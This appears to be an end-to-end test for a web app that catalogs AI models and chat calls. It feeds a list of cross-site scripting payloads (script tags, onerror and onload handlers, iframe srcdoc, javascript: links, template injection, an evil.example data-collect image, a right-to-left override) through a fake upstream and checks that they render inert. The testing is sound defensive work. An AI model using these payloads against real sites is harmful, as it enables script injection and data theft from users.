import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, test } from "./support/test";

const HOSTILE = [
  `<img src=x onerror="window.pwned=1">`,
  `<script>window.pwned=1</script>`,
  `</script><script>window.pwned=1</script>`,
  `<svg onload="window.pwned=1"><style>*{display:none}</style>`,
  `"><iframe srcdoc="<script>parent.pwned=1</script>">`,
  `![x](https://evil.example/collect?d=1) [click](javascript:window.pwned=1)`,
  `<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `{{constructor.constructor('window.pwned=1')()}}`,
  `<a href="javascript:window.pwned=1" style="position:fixed;inset:0">x</a>`,
  "\u202etxt.exe \u2066\u200b",
].join("\n");

test("what strangers write is drawn as text: nothing runs, nothing is fetched from elsewhere", async ({
  page,
  mesh,
}) => {
  const upstream = createServer((request, response) => {
    request.resume();
    response.setHeader("content-type", "application/json");
    response.end(
      JSON.stringify(
        request.method === "GET"
          ? { object: "list", data: [{ id: "hostile", object: "model", created: 1, owned_by: HOSTILE }] }
          : {
              id: HOSTILE,
              object: "chat.completion",
              created: 1,
              model: HOSTILE,
              choices: [
                { index: 0, message: { role: "assistant", content: HOSTILE }, finish_reason: "stop" },
              ],
              usage: { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 },
            },
      ),
    );
  });
  await new Promise<void>((done) => upstream.listen(0, "127.0.0.1", done));
  try {
    const { port } = upstream.address() as AddressInfo;
    const text = HOSTILE.slice(0, 190);
    await mesh.manage("POST", "/models", {
      name: "hostile",
      domain: "platform",
      title: text,
      description: HOSTILE,
      tags: ["<b>bold</b>"],
      api: "openai",
      url: `http://127.0.0.1:${port}/v1`,
      price: { currency: "USD", input: "1", output: "1" },
    });
    const id = await mesh.chat(HOSTILE, "hostile");
    for (const path of [
      `/calls/${id}`,
      `/calls?peek=${id}`,
      "/calls?callee=hostile",
      "/catalog",
      "/catalog/model/hostile",
      "/",
      `/calls?q=${encodeURIComponent(HOSTILE.slice(0, 100))}`,
      `/catalog/model/${encodeURIComponent("<script>window.pwned=1</script>")}`,
      `/sign-in?error=${encodeURIComponent(HOSTILE)}`,
    ]) {
      await page.goto(path);
      await expect(page.getByRole("heading", { level: 1 }).first()).toBeVisible();
      expect(await page.evaluate(() => (window as { pwned?: unknown }).pwned)).toBeUndefined();
      expect(await page.locator("iframe, main img, a[href^='javascript:' i]").count()).toBe(0);
    }
    await page.goto(`/calls/${id}`);
    await expect(page.getByRole("figure", { name: "Response" })).toContainText(
      "<script>window.pwned=1</script>",
    );
    // A right-to-left override would make a text read differently from what it is.
    await expect(page.getByRole("figure", { name: "Response" })).toContainText("\\u202e");
  } finally {
    upstream.close();
  }
});
